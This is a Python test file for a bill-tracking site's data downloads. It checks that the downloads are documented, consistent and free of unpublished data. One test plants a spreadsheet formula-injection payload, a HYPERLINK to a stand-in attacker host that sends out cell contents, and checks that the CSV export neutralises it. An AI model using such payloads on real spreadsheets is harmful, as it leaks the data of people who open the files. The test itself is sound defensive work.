"""Downloads: documented to the last column, harmless in a spreadsheet, and nothing in them that is only ours."""

from __future__ import annotations

import csv
import json
import re
import sqlite3
from datetime import datetime
from pathlib import Path
from typing import Any

import msgspec
from hypothesis import given
from hypothesis import strategies as st
from sqlite_utils import Database

from billwatch.compare.changes import KINDS
from billwatch.store.migrations import TABLES, migrations
from billwatch_site import Settings, build
from billwatch_site.downloads import bill_file, page
from billwatch_site.downloads.columns import BILLS, CHANGES
from billwatch_site.downloads.dictionary import tables
from billwatch_site.downloads.tables import cells, harmless
from billwatch_site.reading import database
from billwatch_site.records import BillRecord
from site_pages import tree, words_of

STORE = (Path(__file__).parents[2] / "docs/store.md").read_text()


def rows(file: Path) -> list[dict[str, str]]:
    with file.open(encoding="utf-8-sig", newline="") as lines:
        return list(csv.DictReader(lines))


def documented() -> dict[str, dict[str, str]]:
    """The tables of docs/store.md: each column with its meaning."""
    found = {}
    for section in re.split(r"^## ", STORE, flags=re.MULTILINE)[1:]:
        columns = section.split("| kind |")[0]
        if "| column |" in columns:
            found[section.split()[0]] = dict(re.findall(r"^\| `([^`]+)` \| (.*?) \|$", columns, flags=re.MULTILINE))
    return found


def test_the_dictionary_says_what_the_documentation_says() -> None:
    """Table by table and column by column; both have every table and column that there is."""
    assert {name: table.columns for name, table in tables().items()} == documented()
    db = Database(memory=True)
    migrations.apply(db)
    real = {name: [column.name for column in db.table(name).columns] for name in TABLES}
    assert {name: list(table.columns) for name, table in tables().items()} == real


def paths(value: Any, before: str = "") -> set[str]:
    """Every field of a file, those of objects in lists as `actions[].date`."""
    if isinstance(value, list):
        return {path for one in value for path in paths(one, f"{before}[]")}
    if not isinstance(value, dict):
        return set()
    names = {f"{before}.{name}".lstrip("."): inside for name, inside in value.items()}
    return set(names).union(*(paths(inside, name) for name, inside in names.items()))


def test_every_kind_of_change_is_explained(site: Path) -> None:
    """The data page lists each kind that a change can be of, and where a field is one of them it says where."""
    page = tree(site / "data/index.html")
    assert page.xpath("//section[h2[@id='kinds']]//th/code/text()") == list(KINDS)
    assert "see below" not in words_of(page)


def test_every_field_of_a_bills_file_is_explained(site: Path) -> None:
    """To the last one inside its lists, and no other is."""
    files = [json.loads(file.read_bytes()) for file in site.glob("ny/*/*/bill.json")]
    assert set().union(*map(paths, files)) == set(bill_file.fields())
    assert all(bill_file.fields().values())
    found = json.loads((site / "ny/2025/S4505/bill.json").read_bytes())
    assert list(found) == [path for path in bill_file.fields() if "[]" not in path]
    assert {field.name for field in msgspec.structs.fields(BillRecord)} - set(found) == bill_file.WITHHELD
    assert found["page"] == "https://bills.example.org/billwatch/ny/2025/S4505/"
    assert found["actions"][-1]["text"] == "APPROVAL MEMO.68"


def test_a_flag_of_a_bills_file_is_true_or_false(site: Path) -> None:
    """And said to be, where the store has 1."""
    found = json.loads((site / "ny/2025/S4505/bill.json").read_bytes())
    explained = bill_file.fields()
    for flag in ("ended", "followed", "changes[].backfill", "checks[].missing", "relations[].sure"):
        held, _, name = flag.rpartition("[].")
        assert isinstance((found[held][0] if held else found)[name], bool)
        assert explained[flag].startswith("true ")
    assert not [flag for flag, words in explained.items() if "1 when" in words]
    assert {c.meaning.split(" when ")[0] for c in (*BILLS, *CHANGES) if c.kind == "flag"} == {"1 or true"}


def test_a_bills_file_names_what_it_holds(site: Path) -> None:
    """Nothing in it has to be counted off by its place, however deep it stands."""
    steps = json.loads((site / "ny/2025/S8000/bill.json").read_bytes())["steps"]
    assert steps[2]["turns"] == [{"to": 1, "on": "2025-03-04"}] and steps[0]["turns"] == []


def test_csv_and_json_lines_are_the_same(site: Path) -> None:
    """The same rows in the same order under the same names."""
    for name, columns in (("bills", BILLS), ("changes", CHANGES)):
        table = rows(site / f"data/{name}.csv")
        lines = [json.loads(line) for line in (site / f"data/{name}.jsonl").read_bytes().splitlines()]
        assert list(table[0]) == list(lines[0]) == [column.name for column in columns]
        assert [dict(zip(line, cells(list(line.values())), strict=True)) for line in lines] == table
    assert {row["id"] for row in rows(site / "data/bills.csv")} >= {"ny/2017/S9191", "ny/2025/S4505"}


def test_values_are_what_they_say(site: Path) -> None:
    """Kinds are kept: lists, flags, dates and instants."""
    checks = {
        "text": lambda v: isinstance(v, str),
        "date": lambda v: v == "" or re.fullmatch(r"\d{4}-\d\d-\d\d", v),
        "instant": lambda v: v == "" or datetime.fromisoformat(v).tzinfo,
        "flag": lambda v: isinstance(v, bool),
        "list": lambda v: isinstance(v, list) and all(isinstance(part, str) for part in v),
    }
    for name, columns in (("bills", BILLS), ("changes", CHANGES)):
        for line in (site / f"data/{name}.jsonl").read_bytes().splitlines():
            found = json.loads(line)
            assert [c.name for c in columns if not checks[c.kind](found[c.name])] == []


def test_an_instant_is_written_one_way(site: Path) -> None:
    """As the store writes it, in every file of ours: who joins two of them compares texts."""
    kinds = ("data/*.csv", "data/*.jsonl", "ny/*/*/bill.json", "**/feed*.json", "**/feed*.xml", "sources/health.json")
    files = [file for kind in kinds for file in site.glob(kind)]
    found = {end for f in files for end in re.findall(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d([^<,\"\s]*)", f.read_text())}
    assert found == {"+00:00"} and len({file.name for file in files}) > 6


def test_what_the_database_keeps_as_it_came_is_said(site: Path) -> None:
    """A sponsor by the source's name, NULL where no source tells: other files have names in full and empty text."""
    db = sqlite3.connect(site / "data/bills.db")
    other = {row["id"]: row for row in rows(site / "data/bills.csv")}
    held = db.execute("select id, sponsor, law_section from bills").fetchall()
    assert any(law is None and other[bill]["law_section"] == "" for bill, _, law in held)
    note = (site / "data/index.html").read_text().split('id="database"')[1].split("</p>")[0]
    assert "<code>NULL</code>" in note and "keeps what the sources gave" in note


def test_a_formula_is_text_in_csv_and_itself_in_json(
    store: Path, settings: Settings, now: datetime, tmp_path: Path
) -> None:
    """A title that a spreadsheet would run."""
    formula = '=HYPERLINK("https://evil.example/"&A1,"click")'
    db = Database(store)
    db.execute("update bills set title = ? where id = 'ny/2025/S404'", [formula])
    db.conn.commit()
    build(store, tmp_path / "public", settings, now)
    (row,) = (row for row in rows(tmp_path / "public/data/bills.csv") if row["id"] == "ny/2025/S404")
    assert row["title"] == f"'{formula}"
    assert json.loads((tmp_path / "public/ny/2025/S404/bill.json").read_bytes())["title"] == formula


FORMULA = "=+-@\t\r＝＋－＠"
nasty = st.text(st.sampled_from(f"{FORMULA} \n;,|'\"a1\u00a0"), max_size=30)


@given(text=st.one_of(st.text(max_size=60), nasty))
def test_no_cell_begins_a_formula(text: str) -> None:
    """Not the cell, not a line of it, not what a spreadsheet cuts off at another separator; and nothing is lost."""
    written = cells([text])[0]
    assert written == harmless(text)
    for part in re.split(r"[\n\r;,|\t]", written):
        assert not part.lstrip().startswith(tuple("=+-@＝＋－＠")), written
    assert not written.startswith(("\t", "\r"))
    assert written.replace("'", "") == text.replace("'", "")
    if not any(sign in text for sign in FORMULA):
        assert written == text


def test_the_database_holds_what_is_published_and_no_more(site: Path, tmp_path: Path) -> None:
    """Whole, with the tables and columns that the data page explains; no raw answers, no places in the archive."""
    db = sqlite3.connect(site / "data/bills.db")
    assert db.execute("pragma integrity_check").fetchone() == ("ok",)
    found = {
        name: [row[1] for row in db.execute(f"pragma table_info({name})")]
        for (name,) in db.execute("select name from sqlite_master where type = 'table' order by rowid")
    }
    assert found == {name: list(table.columns) for name, table in page.published_tables()}
    assert not {"facts", "digest", "etag", "file"} & {column for columns in found.values() for column in columns}
    ids = {row["id"] for row in rows(site / "data/bills.csv")}
    assert {name for (name,) in db.execute("select id from bills")} == ids
    for table in ("actions", "changes", "observations", "topics"):
        assert {name for (name,) in db.execute(f"select bill from {table}")} <= ids
    assert db.execute("select count(*) from fetches").fetchone() == (1,)
    assert db.execute("pragma freelist_count").fetchone() == (0,)


def test_a_bill_that_is_not_published_is_not_in_it(
    store: Path, settings: Settings, now: datetime, tmp_path: Path
) -> None:
    """Nor anything about it."""
    db = Database(store)
    db.table("bills").insert(
        {"id": "ny/2025/S5555", "legislature": "ny", "session": "2025", "identifier": "S5555", "followed": 0,
         "first_seen_at": "2025-06-03T09:00:00+00:00", "changed_at": "2025-06-03T09:00:00+00:00"}
    )  # fmt: skip
    db.table("topics").insert({"bill": "ny/2025/S5555", "topic": "x", "area": "y", "evidence": ""})
    db.close()
    build(store, tmp_path / "public", settings, now)
    assert b"S5555" not in (tmp_path / "public/data/bills.db").read_bytes()


def test_the_same_store_gives_the_same_database(store: Path, tmp_path: Path) -> None:
    """To the byte, whatever was written and deleted in the store meanwhile; and the store stays as it was."""
    db = sqlite3.connect(store)

    def made() -> bytes:
        file = tmp_path / "made.db"
        file.unlink(missing_ok=True)
        database.publish(db, ["ny/2017/S9191", "ny/2025/S404"], file)
        return file.read_bytes()

    before = made()
    db.execute("create table scratch (a)")
    db.executemany("insert into scratch values (?)", [("x" * 999,)] * 999)
    db.execute("drop table scratch")
    db.execute("update bills set title = title")
    db.commit()
    assert made() == before
    assert not db.in_transaction


def test_the_data_page_names_every_file_and_field(site: Path) -> None:
    """And each file that it names is there, of the size that it says."""
    html = (site / "data/index.html").read_text()
    for name in ("bills.csv", "bills.jsonl", "changes.csv", "changes.jsonl", "bills.db"):
        size = page.in_bytes((site / "data" / name).stat().st_size)
        assert f'<a href="{name}">' in html and f">{size}</td>" in html
    for column in (*BILLS, *CHANGES):
        assert f"<code>{column.name}</code>" in html
    assert "<code>steps[].<wbr>turns[].<wbr>to</code>" in html, "a long name breaks between its parts"
    assert "CC0 1.0" in html
